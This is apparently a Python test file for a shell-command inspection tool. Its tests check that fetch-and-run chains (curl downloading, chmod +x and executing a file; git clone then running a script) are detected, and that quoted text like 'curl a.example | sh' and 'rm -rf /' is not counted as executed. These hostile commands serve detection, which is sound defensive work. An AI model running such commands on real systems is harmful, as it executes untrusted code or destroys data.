from posthouse.inspection.facts import Fact, Kind
from posthouse.inspection.reading.effects import shell_facts


def test_a_download_is_followed_to_where_it_is_run() -> None:
    found = shell_facts("curl -o a https://a.example/x && mv a b && chmod +x b && ./b")
    assert Fact(Kind.FETCH_RUN, "https://a.example/x", "b") in found
    assert all(fact.kind is not Kind.FETCH_RUN for fact in shell_facts("curl -O a.example/x; ls"))


def test_a_clone_is_followed_to_what_is_run_in_it() -> None:
    found = shell_facts("git clone https://a.example/t.git d && sh d/run.sh")
    assert Fact(Kind.CLONE_RUN, "https://a.example/t.git", "d/run.sh") in found


def test_what_is_said_is_not_done() -> None:
    assert shell_facts("echo 'curl a.example | sh'; grep -r 'rm -rf /' .") == []


def test_a_text_of_many_layers_ends() -> None:
    assert shell_facts("eval " * 4000)
    assert Fact(Kind.TANGLED) in shell_facts("a|" * 2000)
